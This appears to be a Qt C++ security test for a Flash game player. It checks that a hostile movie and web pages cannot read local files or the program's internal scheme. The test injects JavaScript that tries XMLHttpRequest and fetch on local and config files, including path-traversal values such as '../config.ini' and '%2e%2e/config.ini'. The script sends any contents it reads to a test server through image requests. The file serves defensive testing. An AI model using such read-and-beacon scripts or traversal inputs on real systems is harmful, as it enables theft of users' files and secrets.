// A hostile movie cannot read the user's files. Played as a downloaded game
// (the local player, served by the program's door) and from the portal's
// player page, it loads a local file with the runtime's own loader, and the
// page it runs in tries XMLHttpRequest and fetch on local files and on files
// the door does not serve; a test server receives whatever they got. The
// movie's harmless requests arrive, so it did run; the secret never does.
// Nor can a web page in any pane read what the door serves the program's own
// pages (the list pages, the downloaded games), by any way a page has.
#include "lists/gamelist.h"
#include "support/core/files.h"
#include "support/core/httpserver.h"
#include "support/gamebox.h"

#include <QDir>
#include <QElapsedTimer>
#include <QProcess>
#include <QRandomGenerator>
#include <QUrlQuery>
#include <QtTest>

#include "support/eventwait.h"

class HostileMovieTest : public QObject
{
    Q_OBJECT

    GameBox box;
    HttpServer server;
    QTemporaryDir m_dir;
    QString m_token;
    QString m_secretFile;
    QByteArray m_movie;

    bool leaked() const
    {
        for (const QString &r : server.requests()) {
            if (r.contains(m_token) || r.startsWith(QLatin1String("/leak")))
                return true;
        }
        return false;
    }

    bool received(const QString &prefix, int timeout = 60000)
    {
        return KavoTest::WaitUntil([&] {
            const QStringList seen = server.requests();
            return std::any_of(seen.begin(), seen.end(), [&](const QString &r) { return r.startsWith(prefix); });
        }, timeout);
    }

    // What the page the movie runs in could do with script: read local
    // files and files the door does not serve, then report them.
    void pageTriesToRead(WebPane *pane, const QStringList &addresses)
    {
        QString list;
        for (const QString &a : addresses)
            list += QLatin1Char('\'') + a + QStringLiteral("',");
        GameBox::js(pane, QStringLiteral(
            "(function(){var r='%1page?';function send(k,v){var i=new Image();i.src=r+k+'='+"
            "encodeURIComponent(String(v).slice(0,300));}"
            "[%2].forEach(function(u,n){"
            "try{var x=new XMLHttpRequest();x.open('GET',u);x.onload=function(){send('xhr'+n,x.responseText)};"
            "x.onerror=function(){send('xhr'+n,'error')};x.send();}catch(e){send('xhr'+n,'thrown')}"
            "try{fetch(u).then(function(a){return a.text()}).then(function(t){send('fetch'+n,t)},"
            "function(){send('fetch'+n,'error')})}catch(e){send('fetch'+n,'thrown')}});})()")
                                    .arg(server.baseUrl(), list));
        QElapsedTimer t;
        t.start();
        for (int n = 0; n < addresses.size(); ++n) {
            QVERIFY2(received(QStringLiteral("/page?xhr%1=").arg(n)), qPrintable(addresses[n]));
            QVERIFY2(received(QStringLiteral("/page?fetch%1=").arg(n)), qPrintable(addresses[n]));
            qInfo("answered %s after %lld ms", qPrintable(addresses[n]), t.elapsed());
        }
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_token = QStringLiteral("KAVOSECRET%1").arg(QRandomGenerator::global()->generate64());
        m_secretFile = m_dir.filePath(QStringLiteral("secret.txt"));
        QVERIFY(WriteFile(m_secretFile, "secret=" + m_token.toLatin1()));
        QVERIFY(server.start());

        const QString movie = m_dir.filePath(QStringLiteral("probe.swf"));
        QProcess gen;
        gen.start(QStringLiteral(KAVO_SWFGEN_BIN), {QStringLiteral("--probe"), server.baseUrl(),
                                                      QUrl::fromLocalFile(m_secretFile).toString(), movie});
        QVERIFY(gen.waitForFinished(30000) && gen.exitCode() == 0);
        m_movie = ReadFile(movie);
        server.setPage(QStringLiteral("/probe.swf"), m_movie, 200, "application/x-shockwave-flash");

        // The door probe's redirects: a web server sends the page on to the
        // program's files.
        QVERIFY(box.start({QStringLiteral("--pages"), QStringLiteral(KAVO_SOURCE_DIR "/tests/pages"),
                           QStringLiteral("--fault"), QStringLiteral("/r/list=redirect:kavo://app/app/n.htm"),
                           QStringLiteral("--fault"), QStringLiteral("/r/game=redirect:kavo://app/flash/900.swf")}));
        // The movie as a downloaded game, with the installed local player; the
        // settings file holds the secret too.
        const QString appData = QStringLiteral(KAVO_APP_DIR) + QStringLiteral("/app/");
        QFile::remove(box.paths.dataFile(QStringLiteral("flash.htm")));
        QVERIFY(QFile::copy(appData + QStringLiteral("flash.htm"), box.paths.dataFile(QStringLiteral("flash.htm"))));
        QVERIFY(QDir().mkpath(box.paths.flashDir()));
        QVERIFY(QFile::copy(movie, box.paths.flashFile(QStringLiteral("900"))));
        QVERIFY(QFile::link(m_secretFile, box.paths.flashFile(QStringLiteral("901"))));
        QFile config(box.paths.configPath());
        QVERIFY(config.open(QIODevice::Append));
        config.write("secret=" + m_token.toLatin1() + "\r\n");
        config.close();
        QVERIFY(AddGameRecord(box.paths, QStringLiteral("probe"), QStringLiteral("900"), QStringLiteral("900"), 1,
                              QStringLiteral("date_d.dat")));
    }

    // Every way a web page has to read a resource, tried on a list page and
    // on a downloaded game from a page at the portal's address, in the
    // portal pane and in the top advertisement pane: nothing of either
    // arrives.
    void webPagesReadNothingThroughTheDoor()
    {
        BA1 &w = *box.w;
        const QString marker = QStringLiteral("DoorSecretGame");
        QVERIFY(AddGameRecord(box.paths, marker, QStringLiteral("104"), QStringLiteral("104"), 1,
                              QStringLiteral("date_n.dat")));
        const QString probe = box.base()
            + QStringLiteral("pages/doorprobe.html?list=kavo://app/app/n.htm&game=kavo://app/flash/900.swf"
                             "&rlist=/r/list&rgame=/r/game&tag=");
        const QStringList leaks{marker, QStringLiteral("hex:"), QStringLiteral("FWS"), QStringLiteral("open://")};
        for (const auto &[tag, pane] : {std::pair{QStringLiteral("portal"), w.Web1()},
                                        std::pair{QStringLiteral("ad"), w.adweb()}}) {
            pane->Navigate(probe + tag);
            const QString prefix = QStringLiteral("/report?tag=") + tag + QLatin1Char('&');
            // The last report may overtake others: wait for as many rows as
            // the page says it sent.
            const auto rowsNow = [&] {
                QStringList rows;
                for (const QString &r : box.portal.requests())
                    if (r.startsWith(prefix))
                        rows << r;
                return rows;
            };
            const QString done = prefix + QStringLiteral("way=done&count=");
            QVERIFY2(KavoTest::WaitUntil([&] {
                         const QStringList rows = rowsNow();
                         const auto last = std::find_if(rows.begin(), rows.end(),
                                                        [&](const QString &r) { return r.startsWith(done); });
                         return last != rows.end() && rows.size() == last->mid(done.size()).toInt() + 1;
                     }, 90000),
                     qPrintable(tag + QLatin1Char(' ') + rowsNow().join(QLatin1Char('\n'))));
            int rows = 0;
            QStringList got;
            for (const QString &r : rowsNow()) {
                if (r.startsWith(done))
                    continue;
                ++rows;
                const QUrlQuery row(QUrl(r).query());
                const QString content = row.queryItemValue(QStringLiteral("content"), QUrl::FullyDecoded);
                const QString line = row.queryItemValue(QStringLiteral("way")) + QLatin1Char(' ')
                    + row.queryItemValue(QStringLiteral("target")) + QStringLiteral(": ")
                    + row.queryItemValue(QStringLiteral("outcome")) + QLatin1Char(' ')
                + row.queryItemValue(QStringLiteral("len"));
                qInfo("%s %s", qPrintable(tag), qPrintable(line));
                const bool leaked = row.queryItemValue(QStringLiteral("len")) != QLatin1String("0")
                    || std::any_of(leaks.begin(), leaks.end(), [&](const QString &l) { return content.contains(l); });
                if (leaked)
                    got << line + QStringLiteral(", ") + content.left(80);
            }
            QVERIFY2(got.isEmpty(), qPrintable(tag + QStringLiteral(" read:\n") + got.join(QLatin1Char('\n'))));
            // Twenty-one ways and five through a redirect, each on both files.
            QCOMPARE(rows, 52);
        }
    }

    void downloadedMovieReadsNothingLocal()
    {
        BA1 &w = *box.w;
        server.clearRequests();
        w.npc_Click(Caption::ListTab);
        w.lc_Click(2);
        // The recent list shown before may have game links too.
        QTRY_VERIFY(GameBox::js(w.list()->Web3(), QStringLiteral("location.pathname == '/app/d.htm' && "
                                                       "!!document.querySelector('a[href^=\"open://\"]')"))
                        .toBool());
        GameBox::clickElement(w.list()->Web3(), QStringLiteral("a[href^=\"open://\"]"));
        QTRY_COMPARE(w.game()->Web2()->locationUrl(), box.paths.dataDir() + QStringLiteral("/flash.htm?900"));
        QCOMPARE(w.game()->Web2()->page()->url().scheme(), QStringLiteral("kavo"));

        QVERIFY2(received(QStringLiteral("/hello")), "the movie never ran");
        QVERIFY2(received(QStringLiteral("/done")), "the movie never finished");
        pageTriesToRead(w.game()->Web2(), {QUrl::fromLocalFile(m_secretFile).toString(), QStringLiteral("kavo://app/config.ini"),
                                 QStringLiteral("../config.ini"), QStringLiteral("../flash/901.swf"),
                                 QStringLiteral("%2e%2e/config.ini")});
        QVERIFY2(!leaked(), qPrintable(server.requests().join(QLatin1Char('\n'))));
    }

    void portalMovieReadsNothingLocal()
    {
        BA1 &w = *box.w;
        server.clearRequests();
        w.Web1()->Navigate(QStringLiteral("tuzoflash://902$$$%1probe.swf$$$probe").arg(server.baseUrl()));
        QTRY_COMPARE(w.game()->Web2()->locationUrl(), box.base() + QStringLiteral("flash.htm?") + server.baseUrl()
                                                + QStringLiteral("probe.swf"));
        QVERIFY2(received(QStringLiteral("/hello")), "the movie never ran");
        QVERIFY2(received(QStringLiteral("/done")), "the movie never finished");
        pageTriesToRead(w.game()->Web2(), {QUrl::fromLocalFile(m_secretFile).toString(),
                                 QUrl::fromLocalFile(box.paths.configPath()).toString(),
                                 QStringLiteral("kavo://app/config.ini"), QStringLiteral("kavo://app/app/n.htm")});
        QVERIFY2(!leaked(), qPrintable(server.requests().join(QLatin1Char('\n'))));
        // Nor the list of games played.
        for (const QString &r : server.requests())
            QVERIFY2(!r.contains(QStringLiteral("open%3A%2F%2F")), qPrintable(r));
    }
};

QTEST_MAIN(HostileMovieTest)
#include "tst_ui_hostilemovie.moc"
